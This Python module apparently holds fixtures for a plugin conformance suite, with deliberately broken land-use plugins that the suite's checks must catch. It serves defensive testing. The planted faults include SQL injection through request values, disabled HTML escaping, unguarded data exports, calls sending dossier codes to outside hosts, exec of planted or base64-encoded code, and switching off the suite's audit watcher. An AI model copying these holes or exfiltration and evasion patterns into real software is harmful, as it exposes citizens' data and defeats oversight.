"""Deliberately broken plugins for the conformance suite's own tests.

Each is the plugin ``motcua plugin new land_use`` writes (which passes the suite as
written) with one fault put in, the way a vendor would get it wrong; each must fail
exactly the check named with it. Not a test module: tests/test_conformance.py uses it.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

PACKAGE = "motcua_land_use"


@dataclass(frozen=True)
class Edit:
    """Replace ``old`` (which must occur) by ``new`` in the plugin file ``path``."""

    path: str
    old: str
    new: str


@dataclass(frozen=True)
class BrokenPlugin:
    name: str
    fault: str
    fails: str  # the check that must fail
    edits: tuple[Edit, ...]
    # Other checks that fail because of the same fault (each must, and no other may).
    also_fails: tuple[str, ...] = ()
    # Files (name, text) put in the folder the suite is run from: what the plugin finds
    # on the test machine.
    plant: tuple[tuple[str, str], ...] = ()


INIT = f"{PACKAGE}/__init__.py"
VIEWS = f"{PACKAGE}/views.py"

SYNC_HOOK = '''@hookimpl
def motcua_sync_payload(dossier):
    from motcua_land_use.models import certificate_record

    # The whole case for the province's hub: every specialist field and the certificate
    # issued for the dossier, read afresh each time so a change is sent on.
    return {**dossier.specialist_data,
            "certificate": certificate_record(services.session(), dossier.code)}
'''
SYNC_RETURN = '''    return {**dossier.specialist_data,
            "certificate": certificate_record(services.session(), dossier.code)}
'''
CERTIFICATE_ROUTE = '''@bp.route("/certificate/<code>")'''
ISSUE_HOOK = '''    certificate = issue_certificate(services.session(), dossier, actor)
'''
PUBLIC_FIELDS_HOOK = '''def motcua_public_fields(dossier):
'''
MENU_HOOK = ('''    if account.has_role_anywhere("specialist") or '''
             '''account.has_role_anywhere("leader"):
        return [MenuItem(label="Land use", endpoint="land_use.queue")]
    return None
''')
CERTIFICATE_TEMPLATE = f"{PACKAGE}/templates/land_use/_certificate.html"
# A class of its own mapped on the core's ``dossiers`` table, on a metadata the plugin
# does not declare (so neither the migrations check nor the models' table names show it).
SHADOW_CLASS = '''

from sqlalchemy import String as _String
from sqlalchemy.orm import DeclarativeBase as _DeclarativeBase


class _Shadow(_DeclarativeBase):
    metadata = MetaData()


class DossierStamp(_Shadow):
    __tablename__ = "dossiers"

    id: Mapped[int] = mapped_column(Integer, primary_key=True)
    code: Mapped[str] = mapped_column(_String(60))
    note: Mapped[str | None] = mapped_column(_String(200))
'''

# A table of the plugin's own counting page views (its model and its migration).
VIEW_COUNTER_TABLE = (
    Edit(f"{PACKAGE}/models.py", "def issue_certificate(", '''class PageView(Base):
    """How often the queue was opened."""

    __tablename__ = "land_use_page_views"

    id: Mapped[int] = mapped_column(Integer, primary_key=True)
    hits: Mapped[int] = mapped_column(Integer)


def issue_certificate('''),
    Edit(f"{PACKAGE}/migrations/0001_land_use.py", "\n\ndef downgrade() -> None:\n", '''
    op.create_table(
        "land_use_page_views",
        sa.Column("id", sa.Integer(), nullable=False),
        sa.Column("hits", sa.Integer(), nullable=False),
        sa.PrimaryKeyConstraint("id", name=constraint_name("pk", "land_use_page_views")),
    )


def downgrade() -> None:
    op.drop_table("land_use_page_views")
'''),
)
QUEUE_VIEW = '''    dossiers = services.queue([PROCEDURE_CODE])
'''
QUEUE_TEMPLATE = f"{PACKAGE}/templates/land_use/queue.html"
CERTIFICATE_CONTEXT = '''    return {"dossier": dossier, "certificate": found,
'''
PUBLIC_FIELDS_BODY = '''    return {"Nội dung": dossier.specialist_data.get("subject", "")}
'''
CERTIFICATE_PAGE = '''    return render_template("land_use/certificate.html", **_certificate(code))
'''

CERTIFICATE_PAGE_TEMPLATE = f"{PACKAGE}/templates/land_use/certificate.html"
CONTENT_BLOCK = "{% block content %}"
# The blueprint serving files of its own (static/), as a vendor's scripts and styles are.
STATIC_FOLDER = Edit(VIEWS, 'template_folder="templates")',
                     'template_folder="templates",\n               static_folder="static")')

# The scaffold's workflow sent to a unit function the test province lacks.
CONSTRUCTION_WORKFLOW = (
    Edit(INIT, '"unit": "function:finance"},\n', '"unit": "function:construction"},\n'),
    Edit(INIT, '"days": 2, "unit": "function:finance"}',
         '"days": 2, "unit": "function:construction"}'),
)
# ... and the declaration that lets any province (the suite's too) host it.
DECLARES_CONSTRUCTION = Edit(INIT, 'MOTCUA_API = ">=0.2,<0.3"\n',
                             'MOTCUA_API = ">=0.2,<0.3"\n'
                             'MOTCUA_UNIT_FUNCTIONS = {"construction": "Phòng Quản lý đô thị"}\n')
# Not broken: must pass every check with its shipped workflow, no override.
DECLARED_UNIT_FUNCTION = BrokenPlugin(
    "declared_unit_function", "names function:construction and declares it", "",
    (*CONSTRUCTION_WORKFLOW, DECLARES_CONSTRUCTION))

BROKEN = (
    BrokenPlugin(
        "undeclared_unit_function", "its workflow names function:construction, which it "
        "does not declare", "catalogue", CONSTRUCTION_WORKFLOW,
        # No dossier can be taken in (no unit does construction): the knock-on findings
        # name that cause.
        also_fails=("lifecycle", "sync", "lookup", "isolation")),
    BrokenPlugin(
        "no_sync_payload", "keeps specialist data and a table but sends nothing to the hub",
        "sync", (Edit(INIT, SYNC_HOOK, ""),)),
    # Each sends the hub an incomplete or stale payload (see sync_complete in
    # docs/conformance.md).
    BrokenPlugin(
        "sync_misses_specialist_field", "sends the subject and the certificate but not the "
        "area", "sync_complete", (Edit(INIT, SYNC_RETURN, '''\
    return {"subject": dossier.specialist_data.get("subject"),
            "certificate": certificate_record(services.session(), dossier.code)}
'''),)),
    BrokenPlugin(
        "sync_rounds_specialist_field", "sends the area rounded to whole square metres",
        "sync_complete", (Edit(INIT, SYNC_RETURN, '''\
    data = dict(dossier.specialist_data)
    if data.get("area_m2") is not None:
        data["area_m2"] = round(data["area_m2"])
    return {**data, "certificate": certificate_record(services.session(), dossier.code)}
'''),)),
    BrokenPlugin(
        "sync_misses_certificate", "sends the specialist data but not the certificate it "
        "issued", "sync_complete", (Edit(INIT, SYNC_RETURN, '''\
    return dict(dossier.specialist_data)
'''),)),
    BrokenPlugin(
        "sync_certificate_without_number", "sends the certificate's holder and subject but "
        "not its number", "sync_complete", (Edit(INIT, SYNC_RETURN, '''\
    record = certificate_record(services.session(), dossier.code)
    if record is not None:
        record = {"holder_name": record["holder_name"], "subject": record["subject"]}
    return {**dossier.specialist_data, "certificate": record}
'''),)),
    BrokenPlugin(
        "sync_payload_cached", "computes each dossier's payload once per status and keeps "
        "it", "sync_complete", (Edit(INIT, SYNC_RETURN, '''\
    key = (dossier.code, dossier.status)
    if key not in _SENT:
        _SENT[key] = {**dossier.specialist_data,
                      "certificate": certificate_record(services.session(), dossier.code)}
    return _SENT[key]


_SENT = {}
'''),)),
    BrokenPlugin(
        "sync_payload_frozen_at_issue", "keeps the payload it computed when issuing the "
        "certificate and sends that ever after", "sync_complete",
        (Edit(INIT, ISSUE_HOOK, ISSUE_HOOK + '''\
    from motcua_land_use.models import certificate_record

    _FROZEN[dossier.code] = {**dossier.specialist_data, "certificate": certificate_record(
        services.session(), dossier.code)}
'''), Edit(INIT, SYNC_RETURN, '''\
    if dossier.code in _FROZEN:
        return _FROZEN[dossier.code]
    return {**dossier.specialist_data,
            "certificate": certificate_record(services.session(), dossier.code)}


_FROZEN = {}
'''))),
    # Each makes a page reach outside the server (see external_resources in
    # docs/conformance.md); the screens check's reading of the files sees only some.
    BrokenPlugin(
        "srcset_from_outside", "a seal image whose high-density version comes from a CDN",
        "external_resources", (Edit(QUEUE_TEMPLATE, "<h1>", '''<img alt="" width="32"
  src="data:image/gif;base64,R0lGODlhAQABAAAAACw="
  srcset="https://cdn.example.com/seal@2x.png 2x, https://cdn.example.com/seal@3x.png 3x">
<h1>'''),)),
    BrokenPlugin(
        "inline_font_face", "the printable certificate's title in a web font from outside, "
        "declared in an inline style", "external_resources",
        (Edit(CERTIFICATE_PAGE_TEMPLATE, CONTENT_BLOCK, CONTENT_BLOCK + '''
<style>
  @font-face { font-family: "Seal"; src: url(https://fonts.example.com/seal.woff2); }
  .certificate h1 { font-family: "Seal", serif; }
</style>'''),)),
    BrokenPlugin(
        "style_attribute_background", "a banner whose background image comes from outside, "
        "in a style attribute", "external_resources",
        (Edit(QUEUE_TEMPLATE, "<h1>",
              '''<div class="banner" style="height: 40px; background: '''
              '''url(//tiles.example.com/banner.png)"></div>\n<h1>'''),)),
    BrokenPlugin(
        "css_import_from_outside", "its stylesheet imports a font stylesheet from outside",
        "external_resources", (STATIC_FOLDER, Edit(f"{PACKAGE}/static/land_use.css", "",
                                                   '''\
@import url("https://fonts.example.com/css2?family=Roboto");
.register td { font-family: "Roboto", sans-serif; }
'''), Edit(QUEUE_TEMPLATE, CONTENT_BLOCK, CONTENT_BLOCK + '''
<link rel="stylesheet" href="{{ url_for('land_use.static', filename='land_use.css') }}">''')),
        also_fails=("screens",)),  # its reading of the CSS file sees the @import too
    BrokenPlugin(
        "map_iframe", "shows the holder's parcel in a map framed from outside",
        "external_resources", (Edit(CERTIFICATE_PAGE_TEMPLATE, "</article>", '''\
  <iframe title="Bản đồ" width="300" height="200"
          src="{{ 'https://maps.example.com/embed?q=' ~ dossier.code }}"></iframe>
</article>'''),),
        also_fails=("screens",)),  # the rendered page holds the frame's address
    BrokenPlugin(
        "script_fetch_outside", "a script of its own reporting each visit to an outside "
        "server, the address put together at run time", "external_resources",
        (STATIC_FOLDER, Edit(f"{PACKAGE}/static/visits.js", "", '''\
// Usage statistics for the vendor.
const host = ["stats", "example", "com"].join(".");
fetch("https:" + "//" + host + "/visit?page=" + encodeURIComponent(location.pathname))
  .catch(() => {});
'''), Edit(QUEUE_TEMPLATE, CONTENT_BLOCK, CONTENT_BLOCK + '''
<script src="{{ url_for('land_use.static', filename='visits.js') }}"></script>'''))),
    BrokenPlugin(
        "writes_core_table", "stamps the dossier's note with its own UPDATE statement",
        "isolation", (Edit(INIT, ISSUE_HOOK, ISSUE_HOOK + '''    from sqlalchemy import text

    services.session().execute(text("UPDATE dossiers SET note = 'certified' "
                                    "WHERE code = :code"), {"code": dossier.code})
'''),)),
    BrokenPlugin(
        "invalid_schema", "declares a dict where a marshmallow schema belongs",
        "catalogue", (Edit(INIT, "schema=RequestSchema,", "schema=dict,"),),
        # No dossier of its procedure can be taken in: nothing to take through the
        # lifecycle, to sync, to look up, or to break its hooks on.
        also_fails=("lifecycle", "sync", "lookup", "isolation")),
    BrokenPlugin(
        "error_on_bad_input", "a search form that crashes on a limit that is not a number",
        "robustness", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/search", methods=["POST"])
@services.staff_required()
def search():
    from flask import request

    limit = int(request.form.get("limit", ""))
    return f"{limit} results"


@bp.route("/certificate/<code>")'''),)),
    BrokenPlugin(
        "incompatible_api", "declares an API range the platform does not provide",
        "contract", (Edit(INIT, 'MOTCUA_API = ">=0.2,<0.3"', 'MOTCUA_API = ">=0.3"'),)),
    BrokenPlugin(
        "imports_core", "reads the core's models instead of the SDK's views",
        "contract", (Edit(VIEWS, "from flask import Blueprint, abort, render_template",
                          "from flask import Blueprint, abort, render_template\n"
                          "from motcua.core.models import Dossier  # noqa: F401"),)),
    BrokenPlugin(
        "migration_without_downgrade", "its migration cannot be undone",
        "migrations", (Edit(f"{PACKAGE}/migrations/0001_land_use.py",
                            'def downgrade() -> None:\n'
                            '    op.drop_index(constraint_name("ix", CERTIFICATES, "year"), '
                            'CERTIFICATES)\n    op.drop_table(CERTIFICATES)',
                            "def downgrade() -> None:\n    pass"),)),
    BrokenPlugin(
        "unguarded_screen", "a certificate export anyone can open, without logging in",
        "screens", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/certificates.csv")
def export():
    rows = services.session().scalars(select(Certificate)).all()
    return "\\n".join(f"{row.number};{row.holder_name}" for row in rows)


@bp.route("/certificate/<code>")'''),),
        # The export is an HTML answer (Flask's default) with the holders' names as they
        # were typed: the generated applicant's quotes and "&" come out unescaped.
        also_fails=("injection",)),
    BrokenPlugin(
        "leaks_citizen_id", "shows the applicant's citizen ID in the public lookup",
        "personal_data", (Edit(INIT, '''return {"Nội dung": dossier.specialist_data.get(\
"subject", "")}''', '''return {"Nội dung": dossier.specialist_data.get("subject", ""),
            "Người nộp": f"{dossier.applicant_name} ({dossier.applicant_citizen_id})"}'''),)),
    BrokenPlugin(
        "cdn_asset", "loads a stylesheet from a CDN", "screens",
        (Edit(f"{PACKAGE}/templates/land_use/queue.html", "{% block content %}",
              '{% block content %}\n<link rel="stylesheet" '
              'href="https://cdn.example.com/bootstrap.min.css">'),),
        also_fails=("external_resources",)),  # the rendered page asks for it too
    BrokenPlugin(
        "unguarded_export_with_argument", "a yearly export of holders' names anyone can open",
        "screens", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/export/<int:year>")
def export(year: int):
    rows = services.session().scalars(select(Certificate).where(Certificate.year >= year)).all()
    return "\\n".join(f"{row.number};{row.holder_name}" for row in rows)


@bp.route("/certificate/<code>")'''),),
        also_fails=("injection",)),  # the same unescaped names as unguarded_screen
    BrokenPlugin(
        "error_on_post_with_argument", "a correction form that crashes on a bad value",
        "robustness", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/fix/<int:n>", methods=["POST"])
@services.staff_required()
def fix(n: int):
    from flask import request

    value = int(request.form.get("value", ""))
    return f"{n}: {value}"


@bp.route("/certificate/<code>")'''),)),
    BrokenPlugin(
        "shadow_orm_class", "stamps the dossier's note through its own class mapped on "
        "dossiers", "isolation",
        (Edit(f"{PACKAGE}/models.py", "    unit_code: Mapped[str] = mapped_column(String(40))\n",
              "    unit_code: Mapped[str] = mapped_column(String(40))\n" + SHADOW_CLASS),
         Edit(INIT, ISSUE_HOOK, ISSUE_HOOK + '''    from sqlalchemy import select

    from motcua_land_use.models import DossierStamp

    stamp = services.session().scalar(select(DossierStamp).where(
        DossierStamp.code == dossier.code))
    stamp.note = "certified"
'''))),
    BrokenPlugin(
        "slow_hook", "looks the public fields up slowly (60 ms a call)", "budget",
        (Edit(INIT, PUBLIC_FIELDS_HOOK, PUBLIC_FIELDS_HOOK + '''    import time

    time.sleep(0.06)
'''),),
        # As slow with 50,000 dossiers as with three.
        also_fails=("volume",)),
    BrokenPlugin(
        "leader_page_open_to_all", "a leaders' approval list its menu shows to leaders only, "
        "but any officer can open", "screens",
        (Edit(INIT, MENU_HOOK, '''    items = []
    if account.has_role_anywhere("specialist") or account.has_role_anywhere("leader"):
        items.append(MenuItem(label="Land use", endpoint="land_use.queue"))
    if account.has_role_anywhere("leader"):
        items.append(MenuItem(label="Phê duyệt", endpoint="land_use.approvals"))
    return items or None
'''), Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/approvals")
@services.staff_required()
def approvals():
    from motcua_land_use import PROCEDURE_CODE

    return render_template("land_use/queue.html", dossiers=services.queue([PROCEDURE_CODE]),
                           issued=[])


@bp.route("/certificate/<code>")'''))),
    BrokenPlugin(
        "result_page_crashes", "its printable certificate breaks once a result is issued",
        "lifecycle", (Edit(CERTIFICATE_TEMPLATE, "{{ certificate.subject }}",
                           "{{ certificate.subject }} {{ certificate.holder.name.upper() }}"),),
        also_fails=("screens",)),  # the same page, requested by every role
    # Each changes stored data while answering a GET (see safe_gets in docs/conformance.md).
    BrokenPlugin(
        "get_counts_views", "counts the queue's views in its own table on every GET",
        "safe_gets", (*VIEW_COUNTER_TABLE, Edit(VIEWS, QUEUE_VIEW, QUEUE_VIEW + '''
    from motcua_land_use.models import PageView

    counter = services.session().get(PageView, 1)
    if counter is None:
        counter = PageView(id=1, hits=0)
        services.session().add(counter)
    counter.hits += 1
'''))),
    BrokenPlugin(
        "get_raw_sql_update", "counts the queue's views with its own UPDATE statement",
        "safe_gets", (*VIEW_COUNTER_TABLE, Edit(VIEWS, QUEUE_VIEW, QUEUE_VIEW + '''
    from sqlalchemy import text

    services.session().execute(text("INSERT INTO land_use_page_views (id, hits) "
                                    "SELECT 1, 0 WHERE NOT EXISTS "
                                    "(SELECT 1 FROM land_use_page_views)"))
    services.session().execute(text("UPDATE land_use_page_views SET hits = hits + 1"))
'''))),
    BrokenPlugin(
        "get_annotates_dossier", "notes on the dossier that its certificate was viewed",
        "safe_gets", (Edit(VIEWS, CERTIFICATE_PAGE, '''\
    page = render_template("land_use/certificate.html", **_certificate(code))
    services.annotate(code, source="land_use", key="viewed", value=True,
                      label="Đã xem giấy xác nhận")
    return page
'''),)),
    BrokenPlugin(
        "get_updates_specialist_data", "stamps who last opened them on the subject of the "
        "dossiers its queue lists", "safe_gets", (Edit(VIEWS, QUEUE_VIEW, QUEUE_VIEW + '''
    from motcua_sdk import errors

    viewer = services.current_account().username
    for dossier in dossiers:
        data = dict(dossier.specialist_data)
        subject = str(data.get("subject", "")).split(" [")[0]
        data["subject"] = f"{subject} [{viewer}]"
        try:
            services.update_specialist_data(dossier.code, data)
        except errors.PluginError:
            pass  # not the officer's to change
'''),)),
    BrokenPlugin(
        "get_deletes_row", "a delete link: opening /certificate/<id>/delete removes the "
        "certificate", "safe_gets", (Edit(VIEWS, CERTIFICATE_ROUTE, '''\
@bp.route("/certificate/<int:certificate_id>/delete")
@services.staff_required()
def delete_certificate(certificate_id: int):
    from sqlalchemy import delete

    services.session().execute(delete(Certificate).where(Certificate.id == certificate_id))
    return "deleted"


@bp.route("/certificate/<code>")'''),)),
    # Injection and escaping (see injection in docs/conformance.md): a dossier's text
    # written into a page as markup, a request's value written into SQL text.
    BrokenPlugin(
        "safe_specialist_field", "its queue writes the dossier's subject with |safe",
        "injection", (Edit(QUEUE_TEMPLATE, '{{ dossier.specialist_data.get("subject", "") }}',
                           '{{ dossier.specialist_data.get("subject", "") | safe }}'),)),
    BrokenPlugin(
        "safe_applicant_name", "its certificate writes the holder's name with |safe",
        "injection", (Edit(CERTIFICATE_TEMPLATE, "{{ certificate.holder_name }}",
                           "{{ certificate.holder_name | safe }}"),)),
    BrokenPlugin(
        "markup_in_view", "its certificate view wraps the subject in Markup() to bold it",
        "injection", (Edit(VIEWS, "from flask import Blueprint, abort, render_template",
                           "from flask import Blueprint, abort, render_template\n"
                           "from markupsafe import Markup"),
                      Edit(VIEWS, CERTIFICATE_CONTEXT, CERTIFICATE_CONTEXT.replace(
                          '"certificate": found,', '"certificate": found,\n            '
                          '"subject_html": Markup(f"<strong>{found.subject}</strong>"),')),
            Edit(CERTIFICATE_TEMPLATE, "{{ certificate.subject }}", "{{ subject_html }}"))),
    BrokenPlugin(
        "autoescape_false", "its queue turns autoescaping off for its table",
        "injection", (Edit(QUEUE_TEMPLATE, "<tbody>", "<tbody>{% autoescape false %}"),
                      Edit(QUEUE_TEMPLATE, "{% endfor %}\n  </tbody>",
                           "{% endfor %}{% endautoescape %}\n  </tbody>"))),
    BrokenPlugin(
        "html_by_string_formatting", "a summary page built with an f-string (no template)",
        "injection", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/summary/<code>")
@services.staff_required()
def summary(code: str):
    dossier = services.get_dossier(code)
    return f"<h1>{dossier.code}</h1><p>{dossier.specialist_data.get('subject', '')}</p>"


@bp.route("/certificate/<code>")'''),)),
    BrokenPlugin(
        "sql_from_query_parameter", "its queue filters the register by ?q= spliced into "
        "text() with an f-string", "injection", (Edit(VIEWS, QUEUE_VIEW, QUEUE_VIEW + '''
    from flask import request
    from sqlalchemy import text

    words = request.args.get("q", "")
    services.session().execute(text(
        f"SELECT id FROM land_use_certificates WHERE subject LIKE '%{words}%'")).all()
'''),)),
    BrokenPlugin(
        "sql_from_form_field", "a POST search splicing a form field into its SQL (errors "
        "answered 400)", "injection", (Edit(VIEWS, CERTIFICATE_ROUTE, '''\
@bp.route("/search", methods=["POST"])
@services.staff_required()
def search():
    from flask import request
    from sqlalchemy import text

    holder = request.form.get("holder", "")
    try:
        rows = services.session().execute(text(
            "SELECT number FROM land_use_certificates WHERE holder_name = '%s'" % holder)).all()
    except Exception:  # noqa: BLE001
        abort(400)
    return ", ".join(row.number for row in rows)


@bp.route("/certificate/<code>")'''),)),
    BrokenPlugin(
        "sql_from_json_key", "a JSON lookup of holders splicing a key of the body into its "
        "SQL", "injection", (Edit(VIEWS, CERTIFICATE_ROUTE, '''\
@bp.route("/api/holders", methods=["POST"])
@services.staff_required()
def holders():
    from flask import jsonify, request
    from sqlalchemy import text

    body = request.get_json(silent=True) or {}
    try:
        rows = services.session().execute(text(
            f"SELECT number FROM land_use_certificates WHERE year = {body.get('year', 0)}"
        )).all()
    except Exception:  # noqa: BLE001
        abort(400)
    return jsonify([row.number for row in rows])


@bp.route("/certificate/<code>")'''),)),
    BrokenPlugin(
        "sql_from_path_argument", "/by-holder/<name> splices its URL argument into SQL",
        "injection", (Edit(VIEWS, CERTIFICATE_ROUTE, '''@bp.route("/by-holder/<name>")
@services.staff_required()
def by_holder(name: str):
    from sqlalchemy import text

    rows = services.session().execute(text(
        "SELECT number FROM land_use_certificates WHERE holder_name = '" + name + "'")).all()
    return ", ".join(row.number for row in rows)


@bp.route("/certificate/<code>")'''),)),
    # Faults only the generated samples reach (an optional field left empty, a value at
    # a bound of the schema): the vendor's own sample passes.
    BrokenPlugin(
        "crash_without_area", "its result data formats the area, which is optional",
        "lifecycle", (Edit(INIT, '''data={"subject": certificate.subject})''',
                           '''data={"subject": certificate.subject,
                              "area": f"{dossier.specialist_data.get('area_m2'):.1f} m²"})'''),)),
    BrokenPlugin(
        "page_crash_without_area", "its certificate page formats the area, which is "
        "optional", "lifecycle", (Edit(CERTIFICATE_TEMPLATE, "{{ certificate.subject }}",
                                       '{{ certificate.subject }} '
                                       '({{ "%.1f" % dossier.specialist_data["area_m2"] }} m²)'),)),
    BrokenPlugin(
        "leak_without_area", "without an area, its public fields show the applicant's "
        "citizen ID instead", "personal_data", (Edit(INIT, PUBLIC_FIELDS_BODY, '''\
    area = dossier.specialist_data.get("area_m2")
    where = f"{area} m²" if area else f"CCCD {dossier.applicant_citizen_id}"
    return {"Nội dung": dossier.specialist_data.get("subject", ""), "Thửa đất": where}
'''),)),
    BrokenPlugin(
        "crash_on_tiny_area", "its certificate page divides by the area rounded to whole "
        "m², zero under 0.5 m²", "lifecycle", (Edit(VIEWS, CERTIFICATE_PAGE, '''\
    found = _certificate(code)
    area = found["dossier"].specialist_data.get("area_m2") or 1
    per_m2 = 100_000 // round(area)
    return render_template("land_use/certificate.html", per_m2=per_m2, **found)
'''),)),
    BrokenPlugin(
        "crash_on_long_subject", "shortens a long subject at its first comma, and breaks on "
        "one of 200 characters without a comma", "lifecycle", (Edit(INIT, ISSUE_HOOK,
                                                                      ISSUE_HOOK + '''\
    subject = certificate.subject
    if len(subject) > 150:
        subject = subject[:subject.index(",", 100)]
'''),)),
)


# Hooks and receivers fast on the run's few dossiers and slow on a province's year: the
# volume check times them again with 50,000 dossiers (and the plugin's rows) seeded.
RESULT_RECEIVER_BODY = '''    if dossier.procedure_code == PROCEDURE_CODE:
        log.info("land_use: result %s issued for %s", event.data.get("number"), dossier.code)
'''
RESULT_DECORATOR = "@signals.result_issued.connect\n"
BROKEN += (
    BrokenPlugin(
        "public_fields_load_the_table", "finds the dossier's certificate by loading every "
        "certificate and filtering in Python", "volume",
        (Edit(INIT, PUBLIC_FIELDS_BODY, '''    from sqlalchemy import select

    from motcua_land_use.models import Certificate

    mine = [certificate for certificate in services.session().scalars(select(Certificate))
            if certificate.dossier_code == dossier.code]
    subject = mine[0].subject if mine else dossier.specialist_data.get("subject", "")
    return {"Nội dung": subject}
'''),)),
    BrokenPlugin(
        "receiver_counts_its_table", "logs how many certificates were ever issued, counted "
        "row by row, each time a result is issued", "volume",
        (Edit(INIT, RESULT_RECEIVER_BODY, RESULT_RECEIVER_BODY + '''\
        from sqlalchemy import select

        from motcua_land_use.models import Certificate

        issued = sum(1 for _row in services.session().scalars(select(Certificate)))
        log.info("land_use: %s certificates issued in all", issued)
'''),)),
    BrokenPlugin(
        "receiver_loads_the_holders_past", "on every intake, loads the applicant's earlier "
        "certificates to log their numbers", "volume",
        (Edit(INIT, RESULT_DECORATOR, '''@signals.received.connect
def _log_history(dossier, event):
    from sqlalchemy import select

    from motcua_land_use.models import Certificate

    earlier = services.session().scalars(
        select(Certificate).where(Certificate.holder_name == dossier.applicant_name)).all()
    log.info("land_use: %s had %s", dossier.applicant_name, [c.number for c in earlier])


''' + RESULT_DECORATOR),)),
    BrokenPlugin(
        "receiver_blocks_intake", "waits a quarter of a second in its receiver of every "
        "intake (a call to a slow service)", "budget",
        (Edit(INIT, RESULT_DECORATOR, '''@signals.received.connect
def _notify(dossier, event):
    import time

    time.sleep(0.25)


''' + RESULT_DECORATOR),),
        # As slow with 50,000 dossiers as with three.
        also_fails=("volume",)),
)
# What the plugin's own code does at run time (the runtime check, seen through Python's
# audit hooks): each is the scaffold plus a signal receiver, a hook's line or module-level
# code run at start-up.
RESULT_RECEIVER = '''@signals.result_issued.connect
def _log_result(dossier, event):
'''
RECEIVED_RECEIVER = '''@signals.received.connect
def _on_received(dossier, **_kwargs):
    if dossier.procedure_code != PROCEDURE_CODE:
        return
'''
START_UP = "log = logging.getLogger(__name__)\n"
# A name built at run time, which no reading of the source sees as the platform's.
PLATFORM_NAME = '"_".join(["motcua", "sdk"]).split("_")[0]'


def on_received(body: str) -> Edit:
    """The scaffold with a receiver of ``signals.received`` (each dossier taken in)
    running ``body`` (indented by four spaces)."""
    return Edit(INIT, RESULT_RECEIVER, RECEIVED_RECEIVER + body + "\n\n\n" + RESULT_RECEIVER)


def at_start_up(body: str) -> Edit:
    """The scaffold running ``body`` when its package is imported."""
    return Edit(INIT, START_UP, START_UP + body)


RUNTIME_BROKEN = (
    BrokenPlugin(
        "posts_to_outside_host", "tells an outside server of each dossier taken in (HTTP)",
        "runtime", (on_received('''    import urllib.request

    try:
        urllib.request.urlopen(f"http://203.0.113.7/notify?code={dossier.code}", timeout=0.2)
    except OSError:
        pass'''),)),
    BrokenPlugin(
        "resolves_licence_server", "looks its licence server's name up at start-up (DNS)",
        "runtime", (at_start_up('''
try:
    import socket as _socket

    _socket.getaddrinfo("licence.land-use.example", 443)
except OSError:
    pass
'''),)),
    BrokenPlugin(
        "connects_to_local_cache", "keeps a cache in a service on the server's loopback "
        "(a port that is not the suite's)", "runtime", (on_received('''    import socket

    try:
        socket.create_connection(("127.0.0.1", 6379), timeout=0.2).close()
    except OSError:
        pass'''),)),
    BrokenPlugin(
        "writes_tmp_file", "keeps the last dossier taken in, with the applicant's name, in "
        "the temporary folder", "runtime", (on_received('''    import json
    import tempfile
    from pathlib import Path

    Path(tempfile.gettempdir(), "land_use_last.json").write_text(
        json.dumps({"code": dossier.code, "name": dossier.applicant_name}),
        encoding="utf-8")'''),)),
    BrokenPlugin(
        "appends_to_working_folder", "appends each dossier taken in to a register in the "
        "folder it was started from (os.open)", "runtime", (on_received('''    import os

    fd = os.open("land_use_register.csv", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    try:
        os.write(fd, f"{dossier.code};{dossier.applicant_name}\\n".encode())
    finally:
        os.close(fd)'''),)),
    BrokenPlugin(
        "copies_beside_instance", "copies its module next to its instance folder, not in it",
        "runtime", (on_received('''    import shutil
    from pathlib import Path

    from flask import current_app

    shutil.copyfile(__file__, Path(current_app.instance_path).parent / "land_use_copy.py")'''),
    )),
    BrokenPlugin(
        "execs_planted_file", "runs the Python file it finds in its working folder at "
        "start-up (an 'extension')", "runtime", (at_start_up('''
_EXTENSION = Path.cwd() / "land_use_extension.py"
if _EXTENSION.is_file():
    exec(_EXTENSION.read_text(encoding="utf-8"), {})  # noqa: S102
'''),), plant=(("land_use_extension.py", "GREETING = 'xin chao'\n"),)),
    BrokenPlugin(
        "evals_expression", "computes a public field with eval()", "runtime",
        (Edit(INIT, PUBLIC_FIELDS_HOOK, PUBLIC_FIELDS_HOOK + '''\
    area = eval("120.5 * 1", {"__builtins__": {}})  # noqa: S307
    assert area
'''),)),
    BrokenPlugin(
        "runs_decoded_payload", "decodes and runs code hidden in a string at start-up",
        "runtime", (at_start_up('''
import base64 as _base64

exec(_base64.b64decode("X2xvYWRlZCA9IFRydWUK").decode(), {})  # noqa: S102
'''),)),
    BrokenPlugin(
        "imports_core_by_built_name", "imports the core's models by a name built at run time",
        "runtime", (Edit(INIT, PUBLIC_FIELDS_HOOK, PUBLIC_FIELDS_HOOK + f'''    import importlib

    core = importlib.import_module(".".join([{PLATFORM_NAME}, "core", "models"]))
    assert core.Dossier is not None
'''),)),
    BrokenPlugin(
        "core_from_sys_modules", "takes the core's database module from sys.modules",
        "runtime", (on_received(f'''    import sys

    name = ".".join([{PLATFORM_NAME}, "core", "db"])
    database = getattr(sys.modules[name], "Database", None)
    assert database is not None'''),)),
    BrokenPlugin(
        "core_through_platform_package", "reaches motcua.core as an attribute of the "
        "platform's package", "runtime", (on_received(f'''    import sys

    core = sys.modules[{PLATFORM_NAME}].core
    assert core is not None'''),)),
    BrokenPlugin(
        "starts_a_process", "converts each dossier's form with a program it runs "
        "(subprocess)", "runtime", (on_received('''\
    import subprocess

    subprocess.run(["true", dossier.code], check=False)'''),)),
    BrokenPlugin(
        "runs_shell_command", "notes each dossier taken in through a shell command "
        "(os.system)", "runtime", (on_received('''\
    import os

    os.system("true")  # noqa: S605, S607'''),)),
    BrokenPlugin(
        "disables_the_watch", "switches the suite's watcher off by setting its state "
        "at start-up", "runtime", (at_start_up(f'''
import sys as _sys

_WATCHER = _sys.modules.get(".".join([{PLATFORM_NAME}, "conformance", "audit"]))
if _WATCHER is not None:
    _WATCHER._ACTIVE = None
'''), on_received('''\
    import urllib.request

    try:
        urllib.request.urlopen("http://203.0.113.7/", timeout=0.2)
    except OSError:
        pass'''))),
    BrokenPlugin(
        "own_engine_writes_dossiers", "stamps the dossier through an engine of its own on "
        "the platform's database", "runtime", (on_received('''\
    from sqlalchemy import create_engine, text

    url = services.session().get_bind().url
    engine = create_engine(url, connect_args={"timeout": 0}
